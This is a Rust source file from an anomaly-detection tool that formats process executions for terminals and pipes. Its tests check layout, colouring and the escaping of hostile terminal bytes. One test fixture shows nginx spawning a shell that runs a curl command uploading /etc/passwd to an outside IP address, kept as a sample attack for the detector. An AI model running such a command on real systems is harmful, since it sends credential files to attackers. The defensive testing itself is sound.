//! One execution as a person reads it: when, whose, how unusual, who started what, and why.
//!
//! Everything that comes from outside passes through [`printable`], so that neither a command line nor the name of a
//! workload can draw on the terminal, and everything is laid out to the terminal's width as it is at that moment.
//! Elsewhere (a pipe, a file) an execution is exactly one line, to be filtered by other programs.

use anomaly_baseline::text::printable;
use anomaly_baseline::{Explanation, Level, Verdict};
use anomaly_vectorizer::Execution;
use anstyle::{AnsiColor, Style};

use crate::terminal::{columns, prefix, wrap};
use crate::words::times;

/// How much of a command line is shown, in bytes.
const MAX_COMMAND: usize = 400;

/// How much of a workload's name is shown where there is no width to fit, in bytes.
const MAX_WORKLOAD: usize = 200;

/// How many lines of a terminal a command may take.
const COMMAND_LINES: usize = 3;

/// By how much continued lines are indented: the width of the time column.
const INDENT: usize = 9;

/// What lines are laid out for.
#[derive(Debug, Clone, Copy)]
pub(super) struct Layout {
    /// The terminal's width in columns; `None` where the output is no terminal.
    pub(super) width: Option<usize>,
    /// Whether levels are coloured.
    pub(super) colours: bool,
}

/// One execution, ending in a newline. `time` is the local time of day.
pub(super) fn execution(time: &str, execution: &Execution, verdict: &Verdict, layout: Layout) -> String {
    let score = verdict.score.map_or_else(|| "     -".to_owned(), |score| score.to_string());
    let rating = format!("{score} {:<8}", verdict.level.as_str());
    let what = who_started_what(execution);
    let why = verdict.explanation.as_ref().map(reason).unwrap_or_default();
    let colour = if layout.colours { style(verdict.level) } else { Style::new() };
    let faint = if layout.colours { Style::new().dimmed() } else { Style::new() };

    let Some(width) = layout.width else {
        let workload = printable(&verdict.workload, MAX_WORKLOAD);
        let why = if why.is_empty() { why } else { format!("  {faint}{why}{faint:#}") };
        return format!("{time} {workload} {colour}{rating}{colour:#} {what}{why}\n");
    };

    let name_columns = (width / 5).clamp(8, 24);
    let workload = ends_of(&printable(&verdict.workload, MAX_WORKLOAD), name_columns);
    let padding = " ".repeat(name_columns.saturating_sub(columns(&workload)));
    let head_columns = columns(time) + 1 + name_columns + 1 + columns(&rating) + 1;
    let mut lines = wrap(&what, width.saturating_sub(head_columns), width - INDENT);
    if lines.len() > COMMAND_LINES {
        lines.truncate(COMMAND_LINES);
        if let Some(last) = lines.last_mut() {
            *last = format!("{}...", prefix(last, width - INDENT - 3));
        }
    }
    let mut lines = lines.into_iter();
    let first = lines.next().unwrap_or_default();
    let mut out = format!("{time} {workload}{padding} {colour}{rating}{colour:#} {first}\n");
    for line in lines {
        out.push_str(&format!("{:INDENT$}{line}\n", ""));
    }
    for line in wrap(&why, width - INDENT, width - INDENT) {
        out.push_str(&format!("{:INDENT$}{faint}{line}{faint:#}\n", ""));
    }
    out
}

/// `nginx > sh: sh -c id`
pub(super) fn who_started_what(execution: &Execution) -> String {
    let command = printable(&execution.command_line(), MAX_COMMAND);
    let pair = pair(&execution.parent, &execution.name);
    if command.is_empty() { pair } else { format!("{pair}: {command}") }
}

/// `nginx > sh`; the name alone where the parent is not known.
pub(super) fn pair(parent: &str, name: &str) -> String {
    const MAX_NAME: usize = 64;
    let name = if name.is_empty() { "(no name)".to_owned() } else { printable(name, MAX_NAME) };
    if parent.is_empty() { name } else { format!("{} > {name}", printable(parent, MAX_NAME)) }
}

/// What is new, and the nearest that is known.
fn reason(explanation: &Explanation) -> String {
    const MAX_TEXT: usize = 400;
    let Explanation { reason, nearest, nearest_seen } = explanation;
    let reason = printable(reason, MAX_TEXT);
    match nearest {
        Some(nearest) => {
            format!("{reason}; nearest: {}, seen {}", printable(nearest, MAX_TEXT), times(*nearest_seen))
        }
        None => reason,
    }
}

fn style(level: Level) -> Style {
    match level {
        Level::Critical => AnsiColor::Red.on_default().bold(),
        Level::Warn => AnsiColor::Yellow.on_default(),
        Level::Normal => Style::new(),
        Level::Learning => Style::new().dimmed(),
    }
}

/// A name in at most `width` columns: its end is what tells images and units apart.
fn ends_of(name: &str, width: usize) -> String {
    if columns(name) <= width {
        return name.to_owned();
    }
    let mut start = name.len();
    for (at, _) in name.char_indices().rev() {
        if columns(&name[at..]) + 3 > width {
            break;
        }
        start = at;
    }
    format!("...{}", &name[start..])
}

#[cfg(test)]
mod tests {
    use anomaly_baseline::{Score, Standing};
    use anomaly_vectorizer::Arguments;

    use super::*;

    fn shell() -> Execution {
        Execution {
            kind: anomaly_vectorizer::Kind::Exec,
            name: "sh".into(),
            parent: "nginx".into(),
            grandparent: "systemd".into(),
            uid: 33,
            arguments: Arguments::new(["sh", "-c", "curl --upload-file /etc/passwd http://203.0.113.9/"]),
        }
    }

    fn novel() -> Verdict {
        Verdict {
            workload: "nginx.service".into(),
            standing: Standing::Held,
            score: Some(Score::from_ten_thousandths(9312)),
            distance: Some(Score::from_ten_thousandths(8123)),
            smoothed: Some(Score::from_ten_thousandths(9312)),
            threshold: Score::from_ten_thousandths(8500),
            level: Level::Warn,
            novel: true,
            first: true,
            seen: 1,
            explanation: Some(Explanation {
                reason: "new: parent nginx, flag --upload-file, host class public".into(),
                nearest: Some("curl -s http://127.0.0.1/healthz".into()),
                nearest_seen: 41,
            }),
        }
    }

    #[test]
    fn a_pipe_gets_one_line_with_everything() {
        let line = execution("14:03:22", &shell(), &novel(), Layout { width: None, colours: false });
        assert_eq!(
            line,
            "14:03:22 nginx.service 0.9312 warn     nginx > sh: sh -c curl --upload-file /etc/passwd \
             http://203.0.113.9/  new: parent nginx, flag --upload-file, host class public; \
             nearest: curl -s http://127.0.0.1/healthz, seen 41 times\n"
        );
    }

    #[test]
    fn a_terminal_gets_lines_that_fit_and_lose_nothing() {
        for width in [40, 60, 80, 132, 300] {
            let text =
                execution("14:03:22", &shell(), &novel(), Layout { width: Some(width), colours: false });
            assert!(text.lines().all(|line| columns(line) <= width), "{width}:\n{text}");
            let words = text.split_whitespace().collect::<String>();
            for part in ["203.0.113.9/", "hostclasspublic", "seen41times"] {
                assert!(words.contains(part), "{width}: {part} is missing in\n{text}");
            }
        }
    }

    #[test]
    fn the_reason_is_indented_on_a_line_of_its_own() {
        let text = execution("14:03:22", &shell(), &novel(), Layout { width: Some(200), colours: false });
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2, "{text}");
        assert!(lines[1].starts_with("         new: parent nginx"), "{text}");
    }

    #[test]
    fn only_a_level_is_coloured_and_only_when_asked() {
        let with = execution("14:03:22", &shell(), &novel(), Layout { width: Some(100), colours: true });
        assert!(with.contains("\x1b[33m0.9312 warn    \x1b[0m"), "{with:?}");
        let without = execution("14:03:22", &shell(), &novel(), Layout { width: Some(100), colours: false });
        assert!(!without.contains('\x1b'));
    }

    #[test]
    fn hostile_bytes_are_escaped_wherever_they_stand() {
        let hostile = "\x1b[2J\u{202e}\r\n\u{9b}31m";
        let mut run = shell();
        run.name = hostile.into();
        run.parent = hostile.into();
        run.arguments = Arguments::new([hostile]);
        let mut verdict = novel();
        verdict.workload = hostile.into();
        verdict.explanation =
            Some(Explanation { reason: hostile.into(), nearest: Some(hostile.into()), nearest_seen: 1 });
        for width in [None, Some(80)] {
            let text = execution("14:03:22", &run, &verdict, Layout { width, colours: false });
            assert!(!text.chars().any(|c| c.is_control() && c != '\n' || c == '\u{202e}'), "{text:?}");
        }
    }

    #[test]
    fn a_name_keeps_its_end() {
        assert_eq!(ends_of("docker.io/library/nginx", 12), "...ary/nginx");
        assert_eq!(ends_of("host", 12), "host");
    }
}
